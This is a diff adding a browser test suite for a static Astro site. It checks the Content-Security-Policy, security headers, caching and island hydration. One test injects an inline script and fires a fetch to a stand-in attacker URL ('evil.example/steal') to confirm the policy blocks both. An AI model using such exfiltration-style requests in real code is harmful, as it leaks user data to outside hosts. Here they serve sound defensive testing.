@@ -1,0 +1,208 @@
+/**
+ * The test build as a browser and a host see it:
+ * - every built file keeps the output rules (scripts/check-dist.ts: strict CSP with matching
+ *   hashes, no inline styles or handlers, noopener, no credential but the public token);
+ * - the `_headers` rules, applied by the static server as Netlify/Cloudflare would, send the CSP
+ *   with frame-ancestors, the security headers and the right caching;
+ * - in Chromium with those headers, every page loads with no CSP violation and its islands
+ *   hydrate, while an injected inline script or a request to another origin is blocked.
+ */
+import { readFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
+import type { Page } from 'playwright-core';
+import { checkDist } from '../../scripts/check-dist';
+import { listFiles, metaPolicies } from '~/integrations/securityHeaders';
+import { SECURITY_HEADERS, parsePolicy } from '~/integrations/securityPolicy';
+import { TEST_API_ORIGIN, TEST_DIST } from './support/config';
+import { launchBrowser, openPage, type TestBrowser } from './support/browser';
+
+const site = inject('siteUrl');
+let chrome: TestBrowser;
+let pages: string[] = [];
+
+/** Public path of a built HTML file: `index.html` -> `/`, `News.html` -> `/News`. */
+function pathOf(file: string): string {
+  if (file === 'index.html') return '/';
+  return `/${file.replace(/(?:\/index)?\.html$/, '')}`;
+}
+
+/** Records CSP violations in the page from the first script on (before the site's own). */
+async function watchCsp(page: Page): Promise<() => Promise<string[]>> {
+  await page.addInitScript(() => {
+    const seen: string[] = [];
+    (window as unknown as { __cspViolations: string[] }).__cspViolations = seen;
+    document.addEventListener('securitypolicyviolation', (event) => {
+      seen.push(`${event.effectiveDirective} blocked ${event.blockedURI || 'inline'}`);
+    });
+  });
+  return () =>
+    page.evaluate(() => (window as unknown as { __cspViolations: string[] }).__cspViolations);
+}
+
+/** Scrolls through the page so `client:visible` islands hydrate, then waits for all of them. */
+async function hydrateAll(page: Page): Promise<number> {
+  await page.evaluate(async () => {
+    const step = Math.max(200, window.innerHeight / 2);
+    for (let y = 0; y < document.body.scrollHeight; y += step) {
+      window.scrollTo(0, y);
+      await new Promise((done) => setTimeout(done, 40));
+    }
+    window.scrollTo(0, document.body.scrollHeight);
+  });
+  await expect
+    .poll(() => page.locator('astro-island[ssr]:not([client="media"])').count(), {
+      timeout: 10_000,
+    })
+    .toBe(0);
+  return page.locator('astro-island').count();
+}
+
+beforeAll(async () => {
+  chrome = await launchBrowser();
+  pages = (await listFiles(TEST_DIST)).filter((file) => file.endsWith('.html'));
+});
+afterAll(async () => {
+  await chrome?.close();
+});
+
+describe('built output', () => {
+  it('keeps every output rule in every file', async () => {
+    const findings = await checkDist(TEST_DIST, {
+      apiBaseUrl: TEST_API_ORIGIN,
+      publicToken: process.env.PUBLIC_API_TOKEN,
+    });
+    expect(findings).toEqual([]);
+  });
+
+  it('has a _headers file whose policy allows what every page allows', async () => {
+    const text = await readFile(join(TEST_DIST, '_headers'), 'utf8');
+    const header = parsePolicy(/Content-Security-Policy: (.*)/.exec(text)?.[1] ?? '');
+    expect(header.get('frame-ancestors')).toEqual(["'none'"]);
+    for (const file of pages) {
+      const html = await readFile(join(TEST_DIST, file), 'utf8');
+      const meta = parsePolicy(metaPolicies(html)[0] ?? '');
+      for (const [name, sources] of meta) {
+        for (const source of sources) {
+          expect(header.get(name), `${file}: ${name} ${source}`).toContain(source);
+        }
+      }
+    }
+  });
+});
+
+describe('headers of the served build', () => {
+  it('sends the CSP, security headers and short caching with every page', async () => {
+    for (const file of pages) {
+      const path = pathOf(file);
+      const response = await fetch(site + path);
+      expect(response.status, path).toBe(200);
+      const csp = parsePolicy(response.headers.get('content-security-policy') ?? '');
+      expect(csp.get('frame-ancestors'), path).toEqual(["'none'"]);
+      expect(csp.get('object-src'), path).toEqual(["'none'"]);
+      expect(csp.get('script-src')?.join(' '), path).not.toMatch(/unsafe-(inline|eval)/);
+      for (const [name, value] of Object.entries(SECURITY_HEADERS)) {
+        expect(response.headers.get(name), `${name} on ${path}`).toBe(value);
+      }
+      expect(response.headers.get('cache-control'), path).toBe(
+        'public, max-age=0, must-revalidate',
+      );
+    }
+  });
+
+  it('caches hashed assets for a year, and revalidates robots.txt and the sitemap', async () => {
+    const asset = (await listFiles(join(TEST_DIST, '_astro'))).find((f) => f.endsWith('.js'));
+    expect(asset).toBeDefined();
+    const assetResponse = await fetch(`${site}/_astro/${asset}`);
+    expect(assetResponse.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
+    expect(assetResponse.headers.get('x-content-type-options')).toBe('nosniff');
+    for (const path of ['/robots.txt', '/sitemap.xml', '/favicon.ico']) {
+      const response = await fetch(site + path);
+      expect(response.status, path).toBe(200);
+      expect(response.headers.get('cache-control'), path).toBe(
+        'public, max-age=0, must-revalidate',
+      );
+    }
+  });
+});
+
+describe('in Chromium with the headers applied', () => {
+  it('loads every page with no CSP violation and hydrates its islands', async () => {
+    const problems: Record<string, string[]> = {};
+    let islands = 0;
+    for (const file of pages) {
+      const path = pathOf(file);
+      const { page, context, pageErrors, consoleErrors } = await openPage(chrome.browser);
+      try {
+        const violations = await watchCsp(page);
+        await page.goto(site + path, { waitUntil: 'load' });
+        islands += await hydrateAll(page);
+        await page.waitForLoadState('networkidle');
+        const found = [
+          ...(await violations()),
+          ...consoleErrors.filter((m) => /Content Security Policy/i.test(m)),
+          ...pageErrors.map((e) => `page error: ${e.message}`),
+        ];
+        if (found.length) problems[path] = found;
+      } finally {
+        await context.close();
+      }
+    }
+    expect(problems).toEqual({});
+    // The check above means something only if some page has islands to hydrate.
+    expect(islands).toBeGreaterThan(0);
+  });
+
+  it('blocks an injected inline script and a request to another origin', async () => {
+    const { page, context } = await openPage(chrome.browser);
+    try {
+      const violations = await watchCsp(page);
+      await page.goto(`${site}/AboutNgo`, { waitUntil: 'load' });
+      const ran = await page.evaluate(() => {
+        const script = document.createElement('script');
+        script.textContent = 'window.__injected = true';
+        document.head.append(script);
+        return (window as unknown as { __injected?: boolean }).__injected === true;
+      });
+      expect(ran).toBe(false);
+      const fetched = await page.evaluate(() =>
+        fetch('https://evil.example/steal').then(
+          () => 'sent',
+          () => 'blocked',
+        ),
+      );
+      expect(fetched).toBe('blocked');
+      await expect
+        .poll(violations)
+        .toEqual(
+          expect.arrayContaining([
+            expect.stringMatching(/^script-src-elem blocked inline/),
+            expect.stringMatching(/^connect-src blocked https:\/\/evil\.example/),
+          ]),
+        );
+    } finally {
+      await context.close();
+    }
+  });
+
+  it('loads the map frame on request with no referrer, a sandbox and no CSP violation', async () => {
+    const { page, context } = await openPage(chrome.browser);
+    try {
+      const violations = await watchCsp(page);
+      // Keep the test offline: the frame's request is answered here, not by OpenStreetMap.
+      await page.route('https://www.openstreetmap.org/**', (route) =>
+        route.fulfill({ status: 200, contentType: 'text/html', body: '<p>map</p>' }),
+      );
+      await page.goto(`${site}/AboutNgo`, { waitUntil: 'load' });
+      await page.getByRole('button', { name: 'Show map' }).first().click();
+      const frame = page.locator('iframe.map-embed__frame').first();
+      await expect.poll(() => frame.count()).toBe(1);
+      expect(await frame.getAttribute('referrerpolicy')).toBe('no-referrer');
+      expect(await frame.getAttribute('sandbox')).toBeTruthy();
+      await page.waitForLoadState('networkidle');
+      expect(await violations()).toEqual([]);
+    } finally {
+      await context.close();
+    }
+  });
+});
